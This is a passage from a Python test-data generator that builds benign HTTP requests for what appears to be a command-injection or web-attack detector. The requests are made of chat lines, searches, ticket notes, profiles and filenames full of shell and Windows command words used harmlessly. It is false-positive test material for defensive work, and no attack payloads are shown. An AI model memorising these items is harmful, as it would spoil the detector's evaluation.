    "chmod 600 on your ssh key or ssh refuses it",
    "don't rm -rf node_modules on the shared box, it takes forever to reinstall",
    "ps aux | grep nginx shows two masters, weird",
    "tail -f /var/log/app.log while you hit the endpoint",
    "echo $PATH inside the container is missing /usr/local/bin",
    "sleep 10 in the test is a smell, let's use a retry loop",
    "the container has no entry in /etc/passwd for uid 1001, that's why whoami fails",
    "config lives in /etc/myapp/config.yaml on the VMs",
    "on Windows use dir instead of ls, and type instead of cat",
    "net user doesn't show domain accounts, use the AD console",
    "ipconfig /all shows the VPN adapter has no DNS",
    "tasklist shows three copies of the updater running",
    "certutil can compute a sha256: certutil -hashfile setup.exe SHA256",
    "the registry key lives under HKLM\\Software\\Acme, reg query it to check",
    "wmic is deprecated on Windows 11, use PowerShell's Get-CimInstance",
    "schedule it with Task Scheduler, schtasks works too",
    "PowerShell 7 is installed on all laptops now",
    "Invoke-WebRequest is slow because of the progress bar, set $ProgressPreference",
    "Get-ChildItem -Recurse | Measure-Object gives you the file count",
    "Start-Process with -Verb RunAs asks for admin",
    "for each customer we send one invoice, if the amount is over 100 we add VAT",
    "for /f loops in batch files are painful, let's port the script to Python",
    "if exist checks in the old installer are broken on UNC paths",
    "history of the project is in the wiki, start with the 2019 page",
    "alias k=kubectl saves me a lot of typing",
    "sudo !! is my favourite bash shortcut",
    "that's great news!! congrats to the team!!",
    "sqlite .schema shows the tables, .tables lists them",
    "HELO and EHLO both work on the relay, auth is required before RCPT",
    "the IMAP login fails for shared mailboxes, see ticket 4412",
    "POP3 is disabled on the mail server since last year",
    "the path traversal bug from the pentest is fixed in 2.4.1",
    "relative imports like ../utils are banned by the lint config",
    "cd ../.. and run make from the repo root",
    "the .env file is gitignored, copy .env.example",
    ".htaccess rules don't apply under nginx, we moved them to the server block",
    "web.config on the IIS box has the rewrite rules",
    "the .git folder was accidentally deployed to staging, removed now",
    "shellshock was 2014, our bash is way newer",
    "the Windows build uses cmd.exe /c for the post-build step",
    "Let's meet at 3; after that I'm free",
    "Dogs & cats welcome at the office party | bring snacks",
    "Q3 numbers: revenue up; costs down; hiring paused",
    "hey @channel, the VPN is down, IT is on it",
    "see `docker ps` output in the thread",
    "use `$(pwd)` in the volume mount or it breaks on macOS",
    "`id -u` returns 0 in the CI runner, we run as root there",
    "the job runs `python manage.py migrate` before startup",
    "I ran `uname -a` on the box: 6.1 kernel",
    "the ssh key goes in ~/.ssh/authorized_keys on the bastion",
    "logs are at /var/log/nginx/access.log, rotated daily",
    "C:\\Program Files\\Acme\\agent.exe crashed again on the kiosk",
    "the installer writes to C:\\Windows\\Temp, cleanup is manual",
    "the boot.ini question in the interview was funny, nobody remembers XP",
    "Cat Stevens concert tickets are on sale",
    "what time is the all-hands? 10:00 or 10:30?",
    "lunch order: 2x pad thai, 1x green curry",
    "the wget vs curl comparison blog post got 10k views",
    "ls and dir both work in PowerShell because of aliases",
    "the echo in the meeting room is terrible, can facilities fix it?",
    "IF the demo fails, we have the recording as backup",
    "For the record: I was against the Friday deploy",
    "who am i kidding, I'll be late again",
    "type your name in the form and press submit",
    "net revenue is what we report, not gross",
    "the tail of the distribution is where the latency spikes are",
    "our sleep tracking feature shipped to beta",
    "nohup ./run.sh & is how the old cron started it",
    "`cat /etc/os-release` says Debian 12",
    "the bin/ folder has the helper scripts; bin/setup does everything",
    "use /usr/bin/env python3 in the shebang please, not /usr/bin/python",
    "#!/bin/bash at the top of the script, then set -euo pipefail",
    "/bin/sh on alpine is busybox, so some bash-isms fail",
    "PATH=/usr/local/bin:/usr/bin:/bin is the default in the image",
    "the cron runs /usr/local/bin/backup.sh at 02:00",
    "use ${VAR:-default} in the compose file for optional settings",
    "the template uses {{ user.name }} and ${BUILD_ID}",
    "Jenkins expands ${WORKSPACE} before the shell sees it",
    "arithmetic in bash is $((a+b)), not $(a+b)",
    "our fork of the ping exporter is on GitHub",
    "nslookup shows the old IP for the api host",
    "netstat -tlnp shows port 8080 bound twice",
    "the file upload accepts .pdf, .docx and .png only",
    "uploading a file named .htaccess is blocked, as it should be",
    "rename web.config.sample to web.config before deploying",
    "the log says: unable to open ../config/settings.json",
    "use path.join(__dirname, '..', 'config') instead of string concat",
    "the SMTP relay rejected MAIL FROM with our old domain",
    "IMAP SELECT on the archive folder times out",
    "POP3 USER/PASS over plain text is why we disabled it",
    "our alias for the marketing list is team-news@",
    "the history table has 40M rows, it needs partitioning",
    "shell scripts in tools/ need a shellcheck pass",
    "powershell -File build.ps1 is how the Windows agent runs the build",
    "the .bash_history on the bastion is cleared nightly",
    "the Windows agent serves from C:\\inetpub\\wwwroot\\app",
    "the sqlite file is in data/app.db, run .backup before migrating",
    "system design interview tomorrow, wish me luck",
    "exec summary is due Thursday",
    "curl | sh installers make me nervous, let's pin the version",
    "don't pipe to sh; download, read, then run",
    "the `find . -name '*.log' -delete` cleanup freed 40GB",
    "`grep -r TODO src/ | wc -l` says 312, we have work to do",
    "set -x in the script prints every command, handy for debugging",
    "the kubectl exec into the pod works, but the shell is sh not bash",
    "please don't share the /etc/hosts hack, use the internal DNS",
    "the SAM database question came up in the security training",
    "the proc filesystem is read-only in the sandbox",
    "who owns the cron job that emails the sales report?",
    "dir listing is disabled on the static bucket",
    "the IIS app pool recycles at 3am",
    "we replaced bitsadmin with a proper updater last year",
    "the regsvr32 step in the old installer is gone",
    "mshta is blocked by policy on all laptops",
    "rundll32 popping up in EDR was the printer driver",
    "the ping from Frankfurt to Sydney is 280 ms",
    "an id like U0123 is a Slack user id, C0123 a channel",
    "the cat and dog photos for the website are in the shared drive",
    "ls -lh shows the backup is 12G",
    "python -c 'import sys; print(sys.version)' prints 3.11",
    "the bash one-liner for counting lines is in the runbook",
    "a & b | c; d is hard to read, split it into steps",
    "the status page says: degraded performance (EU)",
    "node -e 'console.log(process.version)' prints v20",
    "tar -xzf release.tgz -C /opt/app then restart",
    "ssh into the bastion first, then the db host",
    "the sudoers file is managed by ansible, don't edit it by hand",
    "the crontab entry runs every 5 minutes: */5 * * * *",
    "the .user.ini in the legacy php app sets the upload limit",
    "php.ini on the old box still has display_errors on",
    "the .svn folders are from before the git migration",
    "WEB-INF/web.xml needs the new servlet mapping",
    "the DS_Store files sneaked into the repo again",
    "the id_rsa.pub goes to the deploy keys page, never the private key",
    "ok I'll run the smoke tests after lunch",
    "great demo today, the customer loved the export feature",
    "who is on call this weekend?",
]

SEARCHES = [
    "cat", "cat food", "id card", "ls", "ping pong table", "curl hair salon", "who am i", "perl", "bash birthday",
    "dir of sales", "net income", "type 2", "powershell training", "for sale", "if statements", "history of rome",
    "echo dot", "sleep study", "tail light", "python course", "ruby ring", "shell oil", "passwd reset",
    "web config", "htaccess", "windows 11", "cmd key", "alias email", "smtp settings", "imap gmail",
    "pop3 outlook", "sqlite browser", "system admin", "whoami", "time & date", "r&d", "ops | infra", "a; b",
    "ann smith", "o'brien", "müller", "josé garcía", "li wei", "sales emea", "finance", "engineering",
    "ceo office", "new hires", "contractors", "admin", "support", "bin collection", "etc", "and so on etc",
    "/etc", "root", "home office", "proc", "sam", "boot", "win", "ini", "git", "env", "history", "last week",
    "who", "w", "ps", "df", "id", "su", "ip", "dig", "nl", "ed", "pwd", "env vars", "find", "head", "hostname",
    "crontab", "base64", "chmod", "grep", "awk", "sort", "wc", "cp", "ln", "dd", "xxd", "od", "tee", "mail",
    "nc", "sh", "zsh",
]

PROSE = [
    "Customer says the cat photo upload fails on iOS, please check the logs",
    "Reset the user's id badge; the old one was lost on the train",
    "Moved the account to the Windows team; they use PowerShell for provisioning",
    "Asked for access to the history reports for Q1 and Q2",
    "User wants their alias changed from 'ann.s' to 'ann.smith'",
    "Ticket: 'for some reason if I click twice the form submits twice'",
    "Escalated: echo in the conference bridge, vendor contacted",
    "Note: cmd+shift+4 takes a screenshot on mac, user asked",
    "Refund approved; if the card is expired, send a cheque",
    "User reported ping times of 300 ms from the Sydney office",
    "Former employee; disable login, keep mailbox for 90 days",
    "Wants the SMTP settings for the scanner: host, port 587, TLS",
    "Outlook keeps asking for the IMAP password after the migration",
    "POP3 clients are not supported any more; told the user to use IMAP",
    "The sqlite export for the mobile app is attached to the ticket",
    "Contractor from Bash & Sons Plumbing, access until June",
    "Type: premium; tier: gold; region: EU",
    "Please run the nightly export again, the file was empty",
    "The net amount on the invoice is wrong, gross is right",
    "User's home directory is full; cleaned the downloads folder",
    "Printer queue stuck; restarted the spooler service",
    "Sleep mode breaks the VPN client, known issue",
    "Requested a Python and Ruby training budget",
    "Tail end of the migration: 12 users left",
    "Dir. of Operations asked for a report of inactive accounts",
    "The user copied /etc/hosts entries from an old wiki page, told them to stop",
    "Laptop shows C:\\Windows\\System32 errors at boot, sent to IT",
    "Can't open the shared-drive links from the intranet, reported to IT",
    "The file 'web.config' was emailed by mistake, asked to delete it",
    "Asked why .env files are not allowed as attachments",
    "The .htaccess question is for the marketing site on the old host",
    "Shellshock patching status was asked by the auditor, all done in 2014",
    "Wants to know who has sudo on the build servers",
    "Sales asked: for each lead, if no reply in 7 days, follow up",
    "History: account created 2019, upgraded 2021, paused 2023",
    "Kevin's cat Ruby appears in every video call",
    "Ping An is a new enterprise prospect, set up a trial",
    "Echo Park office is closing in May",
    "User typed 'whoami' in the chat support box, no idea why",
    "Customer pasted 'ls -la' output into the ticket",
    "The curl command in our docs is missing a quote",
    "Our wget mirror of the docs site is out of date",
    "Update the alias list: support@, help@, billing@",
    "Boot camp for new hires starts Monday",
    "The proc. time for refunds is 5-7 days",
    "Address: 12 Python Ridge Rd, Apt. 3, Springfield",
    "Company: Curl & Coil Hair Studio Ltd.",
    "Company: Net Systems AG; contact: IT dept.",
    "Company: Shell Energy Retail",
    "Note to self: follow up with the IIS team re: app pool",
    "The 'for' and 'if' keywords confused the user in the rule builder",
    "Moved from POP to IMAP; mailbox size 4 GB",
    "Lost the SAM card for the door; ordered a new one",
    "User can't find the bin for recycling on floor 3",
    "Ann's last day is Friday; handover doc in the drive",
    "The 'type' dropdown should include 'contractor'",
    "Report: 40 users logged in from new devices this week",
    "The passwd change form rejects spaces, is that intended?",
    "Asked to export the user list to CSV (name, id, team)",
    "Customer asked if we support SSO with Okta; yes",
    "User's display name contains a pipe | character",
    "User's bio has a semicolon; and an ampersand & in it",
    "Moved the whole team (8 people) to the new workspace",
    "Check the uploads folder: someone uploaded cat.jpg 40 times",
    "Two accounts with the same id prefix; merged them",
    "Disabled the 'run command' integration until the review",
    "Echo and Alexa devices are not allowed in meeting rooms",
    "Renewal date: 2025-03-01; price: $12/user/month",
    "User wants the $HOME folder path in the onboarding doc fixed",
    "The cron export at 02:00 timed out twice",
    "The legacy batch script uses for /f to parse a CSV, ported it",
    "If the user is in EMEA, route to the Dublin team",
    "The powershell onboarding script failed on two laptops",
    "Netstat output from the user's PC attached",
    "Who am I supposed to contact about the badge reader?",
    "The Perl team's wiki space has moved",
    "User says 'ps: the export is still slow'",
    "Please rename the channel #cat-pics to #pets",
    "The dd-mm-yyyy format is preferred in the UK",
    "User asked for the history of their plan changes",
    "Grep the audit log for the user's id, nothing suspicious",
    "The system announcement goes out at 9:00",
    "Exec team offsite next week; approvals delayed",
    "The user accidentally pasted a shell prompt ($ ) into their name",
    "Batch file from the vendor starts with @echo off, reviewed it",
    "The HR system sends a POP3 alert, we asked them to switch",
    "Alias 'ceo@' forwards to the assistant too",
    "The path C:\\Users\\ann\\Documents is synced to OneDrive",
    "The old share \\\\fileserver\\public is read only now",
    "The 'last seen' column shows UTC, not local time",
    "Home address updated: 7 Bash Street, Dundee",
    "Added the user to the 'ops & infra' group",
    "The search for 'etc' returns nothing; expected",
    "Please restore the deleted .docx from yesterday's backup",
    "User cannot open .ini files on the managed laptop",
    "Tail -> head: reversed the order in the export, fixed",
    "User asked why their id starts with U and not W",
    "Hostnames in the inventory follow site-role-number",
    "The env var for the region is set per workspace",
    "Find-and-replace in the template broke the footer",
    "Base64 images in emails are blocked by the client",
    "Chmod requests go through the infra queue, not support",
]

PUBLIC_URLS = [
    "https://man7.org/linux/man-pages/man1/cat.1.html",
    "https://man7.org/linux/man-pages/man1/ls.1.html",
    "https://man7.org/linux/man-pages/man1/id.1.html",
    "https://man7.org/linux/man-pages/man5/passwd.5.html",
    "https://man7.org/linux/man-pages/man5/proc.5.html",
    "https://www.gnu.org/software/bash/manual/bash.html#Command-Substitution",
    "https://www.gnu.org/software/bash/manual/bash.html#Aliases",
    "https://www.gnu.org/software/bash/manual/bash.html#History-Interaction",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/if",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/net-user",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/certutil",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.utility/invoke-webrequest",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/get-childitem",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.management/start-process",
    "https://curl.se/docs/manpage.html",
    "https://www.gnu.org/software/wget/manual/wget.html",
    "https://docs.python.org/3/library/subprocess.html",
    "https://docs.python.org/3/library/os.path.html",
    "https://sqlite.org/cli.html",
    "https://datatracker.ietf.org/doc/html/rfc5321",
    "https://datatracker.ietf.org/doc/html/rfc3501",
    "https://datatracker.ietf.org/doc/html/rfc1939",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://owasp.org/www-community/attacks/Command_Injection",
    "https://en.wikipedia.org/wiki/Shellshock_(software_bug)",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://github.com/acme/app/blob/main/.env.example",
    "https://github.com/acme/app/tree/main/bin",
    "https://github.com/acme/app/blob/main/scripts/setup.sh",
    "https://cdn.example.com/img/cat.jpg",
    "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
    "https://unix.stackexchange.com/questions/tagged/bash",
    "https://ss64.com/nt/for_f.html",
    "https://ss64.com/ps/get-childitem.html",
    "https://tldp.org/LDP/abs/html/aliases.html",
    "https://nginx.org/en/docs/http/ngx_http_core_module.html#location",
    "https://iis.net/learn/manage/configuring-security/use-request-filtering",
    "https://kubernetes.io/docs/tasks/run-application/access-api-from-pod/",
    "https://www.example.com/blog/2024/05/why-we-moved-off-pop3",
    "https://shop.example.org/products/cat-tree?color=grey&size=l",
    "https://maps.example.com/?q=Bash+Street,+Dundee",
    "https://docs.example.com/api/v2/users#get-user-by-id",
    "https://status.example.com/incidents/2024-06-01",
    "https://example.atlassian.net/wiki/spaces/OPS/pages/123/Runbook+ls+and+tail",
    "https://www.php.net/manual/en/ini.list.php",
    "https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/User-Agent",
    "https://www.sqlite.org/loadext.html",
    "https://docs.docker.com/engine/reference/commandline/exec/",
    "https://git-scm.com/docs/git-config",
]

PROFILES = [
    {"name": "Catherine O'Hara", "city": "Toronto"},
    {"name": "Ping Zhou", "company": "Ping An Insurance"},
    {"name": "Ruby Taylor", "address": "12 Python Ridge Rd, Springfield"},
    {"name": "Dennis Ritchie Fan Club", "bio": "we love C; and Unix | and pipes"},
    {"name": "Echo Martinez", "city": "Echo Park, Los Angeles"},
    {"name": "Tail Wag Pet Supplies", "address": "7 Bash Street, Dundee"},
    {"name": "Alias Investments LLC", "address": "100 Main St. & 2nd Ave"},
    {"name": "Net Systems AG", "address": "Bahnhofstrasse 1, 8001 Zürich"},
    {"name": "Curl & Coil Hair Studio", "city": "Leeds"},
    {"name": "Shell Beach Resort", "city": "Shell Beach, CA"},
    {"name": "Sam Perl", "title": "Dir. of Engineering"},
    {"name": "Ann Who", "title": "Head of History Dept."},
    {"name": "Mr. Id", "bio": "Yes, Id is my real surname"},
    {"name": "Dash Kumar", "bio": "runner; baker; cat person"},
    {"name": "Sid Nc", "bio": "initials N.C., not netcat"},
    {"name": "Wget Wong", "bio": "nickname from the old sysadmin days"},
    {"name": "Bin Li", "city": "Shanghai"},
    {"name": "Sudo Sato", "bio": "the team calls me sudo"},
    {"name": "Cat Nguyen", "bio": "Product designer. I cat everything into one file, sorry"},
    {"name": "Forrest If", "bio": "for real, that's my name"},
    {"name": "Ed Dir", "title": "Director"},
    {"name": "Pat Type", "bio": "I type fast"},
    {"name": "Ann Smith", "bio": "Unix admin for 20 years: bash, awk, sed, the lot"},
    {"name": "Bob Jones", "bio": "Windows admin. PowerShell, cmd, and too many batch files"},
    {"name": "Eve Adams", "bio": "Security engineer; I write WAF rules for path traversal and RCE"},
    {"name": "Li Wei", "bio": "SRE. Favourite commands: ls, ps, df, du and tail -f"},
    {"name": "José García", "bio": "Backend dev (Python, Ruby, Perl). Coffee & cats."},
    {"name": "Müller GmbH", "address": "Hauptstr. 5, 10115 Berlin"},
    {"name": "O'Brien & Partners", "address": "Unit 4; Dock Road; Cork"},
    {"name": "Priya Patel", "bio": "Ex-sysadmin; still type whoami when lost"},
    {"name": "Tom Hill", "bio": "I maintain the mail relay (SMTP, IMAP, and sadly POP3)"},
    {"name": "Kim Park", "bio": "SQLite fan; .schema is my friend"},
    {"name": "Lars Berg", "bio": "Automation with PowerShell: Get-ChildItem all the things"},
    {"name": "Nina Ross", "bio": "Bash history hoarder; my .bash_history is 50k lines"},
    {"name": "Omar Haddad", "bio": "curl enthusiast, wget sceptic"},
    {"name": "Fay Wong", "bio": "if it works, don't touch it; for everything else, tests"},
    {"name": "Raj Singh", "bio": "Linux on the desktop since 2004; /home is on its own disk"},
    {"name": "Zoe Clark", "bio": "I gave the talk about .env files leaking to production"},
    {"name": "Ivan Petrov", "bio": "IIS and web.config whisperer"},
    {"name": "Mia Chen", "bio": "Loves hiking, cats, and echo chambers of good music"},
    {"name": "Leo Rossi", "bio": "Ops; nohup and screen got me through the 2010s"},
    {"name": "Ava Brown", "bio": "Writes the runbooks: ssh, sudo, systemctl restart"},
    {"name": "Noah Green", "bio": "Ping-pong champion, floor 3"},
    {"name": "Emma White", "bio": "History teacher turned product manager"},
    {"name": "Lucas Gray", "bio": "Lead dev; pipes | and semicolons ; in shell are my jam"},
    {"name": "Sofia Lopez", "bio": "Data engineer: sqlite, duckdb, parquet"},
    {"name": "Hugo Martin", "bio": "Windows for work; Linux for fun"},
    {"name": "Chloe King", "bio": "Marketing; I know nothing about cmd or bash"},
    {"name": "Ethan Scott", "bio": "C:\\Users\\ethan is where my memes live"},
    {"name": "Grace Lee", "bio": "Security champion; reviewed the shellshock patch in 2014"},
    {"name": "Jack Hall", "bio": "Mail admin; EHLO world"},
    {"name": "Lily Young", "bio": "I alias everything: ll, la, gs, gp"},
    {"name": "Mason Allen", "bio": "Build engineer; Jenkins, make, and the occasional rm -rf build/"},
    {"name": "Ella Wright", "bio": "QA lead: if it's not tested, it's broken"},
    {"name": "Henry Baker", "bio": "Remote from Lisbon; UTC+0/+1"},
    {"name": "Isla Turner", "bio": "Data privacy officer"},
    {"name": "Owen Harris", "bio": "Network engineer: ping, traceroute, dig, ip a"},
    {"name": "Ruby Evans", "bio": "Not the language, the person"},
    {"name": "Theo Walker", "bio": "Frontend; ../components is my second home"},
    {"name": "Zara Hughes", "bio": "Support lead; type 'help' in our chat to find me"},
]

UPLOAD_NAMES = [
    "cat-photo.jpg", "resume_2024.pdf", "id-card-scan.png", "passwd-policy.docx", "web-config-notes.txt",
    "env-setup-guide.md", "history-essay.docx", "bash-cheatsheet.pdf", "powershell-intro.pptx",
    "for-sale-sign.png", "invoice #42.pdf", "Q3 report (final).xlsx", "échéancier.pdf", "my.cat.jpg",
    "team photo & friends.jpg", "shell-beach.jpeg", "echo-park-map.png", "sqlite-export.csv",
    "smtp-relay-diagram.png", "htaccess-migration-plan.pdf", "boot-camp-schedule.pdf", "etc-notes.txt",
    "windows-setup.docx", "who-is-who.xlsx",
]

USER_AGENTS = [
    "curl/8.5.0",
    "Wget/1.21.4",
    "python-requests/2.31.0",
    "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.1",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3803",
    "Go-http-client/1.1",
    "okhttp/4.12.0",
    "PostmanRuntime/7.36.1",
    "Java/17.0.10",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "axios/1.6.7",
    "Ruby",
    "HTTPie/3.2.2",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 "
    "Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Mobile/15E148",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0 exe/x86_64.debian.12",
    "kube-probe/1.29",
]

REFERERS = [
    "https://www.google.com/search?q=bash+for+loop",
    "https://www.google.com/search?q=powershell+get-childitem+recurse",
    "https://duckduckgo.com/?q=cat+command+linux",
    "https://www.bing.com/search?q=what+is+etc+passwd",
    "https://stackoverflow.com/questions/4651437/how-do-i-set-a-variable-to-the-output-of-a-command-in-bash",
    "https://superuser.com/questions/tagged/cmd.exe",
    "https://app.example.com/admin/users?page=2&sort=id",
    "https://app.example.com/settings/profile",
    "https://github.com/acme/app/pull/412/files",
    "https://man7.org/linux/man-pages/man1/ls.1.html",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/for",
    "https://news.ycombinator.com/item?id=40123456",
    "https://www.reddit.com/r/sysadmin/comments/abc123/shellshock_ten_years_later/",
    "https://slack.com/app_redirect?channel=C0123456789",
    "https://mail.example.com/imap/inbox",
    "https://docs.example.com/guides/uploading-files",
    "https://wiki.example.com/display/OPS/Cron+and+history",
    "https://example.com/blog/why-alias-ls",
    "https://example.com/search?q=curl+%7C+sh",
    "https://intranet.example.com/people?q=who+is+who",
]

RS_BENIGN = [
    ("/search", "q", "cat food"), ("/search", "q", "ping pong"), ("/get", "foo", "hello world"),
    ("/search", "q", "how to list files in windows"), ("/", "id", "42"), ("/index.php", "page", "about"),
    ("/search", "q", "bash vs zsh"), ("/api/v1/items", "name", "cat tree"), ("/get", "x", "1"),
    ("/search", "q", "powershell for beginners"), ("/index.php", "lang", "en"), ("/search", "q", "etc."),
    ("/api/v1/items", "sort", "price desc"), ("/search", "q", "history of unix"), ("/get", "test", "true"),
    ("/search", "q", "echo dot 5th gen"), ("/", "ref", "newsletter"), ("/search", "q", "if then else"),
    ("/api/v1/items", "category", "home & garden"), ("/search", "q", "who am i lyrics"),
    ("/search", "q", "curl hair"), ("/index.php", "id", "17"), ("/get", "var", "a b c"),
    ("/search", "q", "python snake facts"), ("/search", "q", "shell beach"), ("/api/v1/items", "tag", "sale"),
    ("/search", "q", "sleep tips"), ("/get", "arg1", "value"), ("/search", "q", "dir en grey"),
    ("/search", "q", "type c personality"), ("/index.php", "p", "contact"), ("/search", "q", "net worth"),
    ("/api/v1/items", "q", "tail light cover"), ("/search", "q", "ruby necklace"), ("/get", "foo", "bar"),
    ("/search", "q", "sam smith tickets"), ("/search", "q", "boot sale"), ("/", "utm_source", "slack"),
    ("/search", "q", "alias grace"), ("/api/v1/items", "color", "grey"),
]


def _upload(filename: str) -> dict[str, Any]:
    return _multipart("/api/users/42/avatar", [("caption", "me", None), ("avatar", "GIF89a", filename)])


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(SLACK_TEXTS, NAME)
    n = yield from numbered((_get(_query("/api/users", [("q", q), ("page", "1")])) for q in SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from numbered((prose_request(text) for text in PROSE), f"{NAME}-prose", n, "form")
    for url in PUBLIC_URLS:
        for rec in link_requests(url):
            n += 1
            yield {**rec, "id": f"{NAME}-url-{n:04d}", "category": "benign", "placement": "mixed"}
    n = yield from numbered((_json("/api/users", {"email": "user@example.org", **doc}) for doc in PROFILES),
                            f"{NAME}-profile", n, "json")
    n = yield from numbered((_upload(name) for name in UPLOAD_NAMES), f"{NAME}-upload", n, "multipart-filename")
    n = yield from numbered((_with_header(_get("/api/users?page=1"), "User-Agent", ua) for ua in USER_AGENTS),
                            f"{NAME}-ua", n, "header:User-Agent")
    n = yield from numbered((_with_header(_get("/api/users?page=1"), "Referer", ref) for ref in REFERERS),
                            f"{NAME}-referer", n, "header:Referer")
    yield from numbered((_get(_query(path, [(name, value)])) for path, name, value in RS_BENIGN),
                        f"{NAME}-rs", n, "query")


if __name__ == "__main__":
    print_records(attacks(), benign())
